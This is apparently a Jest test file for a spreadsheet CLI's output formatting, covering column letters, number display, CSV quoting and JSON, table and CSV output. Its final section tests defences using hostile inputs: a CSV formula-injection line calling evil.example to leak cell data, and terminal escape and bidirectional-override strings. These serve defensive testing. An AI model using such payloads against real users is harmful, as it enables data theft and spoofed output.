import { readFileSync } from "fs";
import { resolve } from "path";
import { Cell, errorCell, Grid, toGrid } from "../../src/sheet/cells";
import { columnLetters, displayNumber, errorMessages } from "../../src/cli/output/cells-text";
import { csvField } from "../../src/cli/output/csv";
import { formatResults } from "../../src/cli/output";
import { installCliHost } from "../../src/cli/host";
import { mixed } from "../fixtures/cli/functions";

const expected = (name: string): string =>
  readFileSync(resolve(__dirname, "../fixtures/cli/expected", name), "utf8");

const n = (value: number): Cell => ({ kind: "number", value });
const s = (value: string): Cell => ({ kind: "string", value });

beforeAll(() => installCliHost());

describe("shared text helpers", () => {
  it.each([
    [0, "A"],
    [25, "Z"],
    [26, "AA"],
    [51, "AZ"],
    [52, "BA"],
    [701, "ZZ"],
    [702, "AAA"],
  ])("column %d is %s", (index, letters) => expect(columnLetters(index)).toBe(letters));

  it.each([
    [0, "0"],
    [42, "42"],
    [-7, "-7"],
    [232787544.26598746, "232787544.265987"],
    [1234.5, "1234.5"],
    [0.1 + 0.2, "0.3"],
    [-0.000123456789, "-0.000123457"],
    [123456789012345, "123456789012345"],
    [1e21, "1e+21"],
    [1.5e-9, "1.5e-9"],
  ])("shows %d as %s", (value, text) => expect(displayNumber(value)).toBe(text));

  it("lists the messages of error cells by address, skipping errors without one", () => {
    const grid: Grid = [
      [s("a"), errorCell("#DIV/0!")],
      [n(1), errorCell("#N/A", "unknown project 'foo'")],
    ];
    expect(errorMessages(grid)).toEqual(["B2: #N/A unknown project 'foo'"]);
  });

  it("gives a whole-result error as code and message, without an address", () => {
    expect(errorMessages([[errorCell("#VALUE!", "set your API key")]])).toEqual([
      "#VALUE! set your API key",
    ]);
    expect(errorMessages([[errorCell("#NUM!")]])).toEqual(["#NUM!"]);
  });
});

describe("csv quoting (RFC 4180)", () => {
  it.each([
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["cr\r", '"cr\r"'],
    ["", ""],
    [" padded ", " padded "],
  ])("writes %j as %j", (text, field) => expect(csvField(text)).toBe(field));
});

describe("output formats", () => {
  const results = (): { formula: string; grid: Grid }[] => [
    { formula: "=CRYPTO.MIXED()", grid: toGrid(mixed()) },
    {
      formula: '=CRYPTO.FAIL("notAvailable","unknown project \'foo\'")',
      grid: [[errorCell("#N/A", "unknown project 'foo'")]],
    },
    { formula: "=CRYPTO.DOUBLE(2)", grid: [[n(4)]] },
  ];

  it("json: one array, an entry per formula, each a 2D array; dates as text, errors as objects", () => {
    expect(formatResults("json", results())).toBe(expected("mixed.json"));
    expect((JSON.parse(formatResults("json", results())) as unknown[])[1]).toEqual([
      [{ error: "#N/A", message: "unknown project 'foo'" }],
    ]);
  });

  it("json with lineage: the same array as results, the lineage rows beside it", () => {
    const lineage = results().map((r, i) => ({
      range: `formula ${i + 1}`,
      formula: r.formula,
      vintage: "2026-11-20T12:00:01Z",
      service: "https://metrics.example",
      via: "service" as const,
      metrics: [],
    }));
    const text = formatResults("json", results(), lineage);
    expect(text.endsWith("}\n")).toBe(true);
    expect(JSON.parse(text)).toEqual({
      results: JSON.parse(expected("mixed.json")) as unknown,
      lineage,
    });
    // Without lineage, the array as ever.
    expect(formatResults("json", results(), undefined)).toBe(expected("mixed.json"));
  });

  it("table: formula headers, aligned columns with numbers on the right, messages below", () => {
    expect(formatResults("table", results())).toBe(expected("mixed.table.txt"));
  });

  it("csv: CRLF records, each table labelled by its formula, a blank line between results, messages as # lines", () => {
    expect(formatResults("csv", results())).toBe(expected("mixed.csv"));
  });

  it("csv: figures as the table shows them, without float noise; json keeps every digit", () => {
    const grid: Grid = [[n(0.1 + 0.2), n(1205895.5901512166), n(-0.128605123), n(42), n(1e21)]];
    const csv = formatResults("csv", [{ formula: "=X()", grid }]).split("\r\n")[1];
    expect(csv).toBe("0.3,1205895.590151,-0.128605,42,1e+21");
    expect(formatResults("json", [{ formula: "=X()", grid }])).toContain("0.30000000000000004");
  });

  it("table keeps multi-line text on one line so the columns stay aligned", () => {
    expect(formatResults("table", [{ formula: "=X()", grid: [[s("a\nb"), n(1)]] }])).toBe(
      "=X()\na b  1\n"
    );
  });
});

describe("output that cannot attack its reader", () => {
  it("csv: text a spreadsheet would run as a formula gets a leading apostrophe; numbers stay numbers", () => {
    const grid: Grid = [
      [s('=HYPERLINK("http://evil.example/?"&A1,"x")'), s("+1"), s("-2+3"), s("@SUM(A1)")],
      [s("\t=1"), s("\r=1"), s("a=b"), n(-5)],
      [
        s("-"),
        { kind: "date", value: "2024-01-01", serial: 45292 },
        errorCell("#N/A", "x"),
        s("Aave"),
      ],
    ];
    const lines = formatResults("csv", [{ formula: "=X()", grid }]).split("\r\n");
    // The label line starts with "#": inert text too.
    expect(lines[0]).toBe("# =X()");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",'+1,'-2+3,'@SUM(A1)`);
    expect(lines[2]).toBe(`'\t=1,"'\r=1",a=b,-5`);
    expect(lines[3]).toBe("'-,2024-01-01,#N/A,Aave");
  });

  it("csv: a message line is one field, so its commas cannot start a formula field", () => {
    const grid: Grid = [[errorCell("#N/A", "unknown project x,=1+1")]];
    expect(formatResults("csv", [{ formula: "=X()", grid }])).toBe(
      '# =X()\r\n#N/A\r\n"# #N/A unknown project x,=1+1"\r\n'
    );
  });

  it("table: ESC, BEL, NUL, C1 controls and bidirectional overrides are shown as a placeholder", () => {
    const hostile = "\u001b]0;pwned\u0007Aave\u0000\u009b2J\u202eexe.txt\u2066";
    const out = formatResults("table", [
      {
        formula: "=X()",
        grid: [
          [s(hostile), n(1)],
          [errorCell("#N/A", hostile), n(2)],
        ],
      },
    ]);
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out).toContain("\ufffd]0;pwned\ufffdAave\ufffd\ufffd2J\ufffdexe.txt\ufffd");
    expect(out).toContain("A2: #N/A \ufffd]0;pwned");
  });

  it("table: a result of 130,000 rows is laid out without exhausting the stack", () => {
    const grid: Grid = Array.from({ length: 130_000 }, (_, i) => [n(i), s(`p${i}`)]);
    const out = formatResults("table", [{ formula: "=X()", grid }]);
    expect(out.split("\n")).toHaveLength(130_002);
    expect(out.split("\n")[130_000]).toBe("129999  p129999");
  });
});
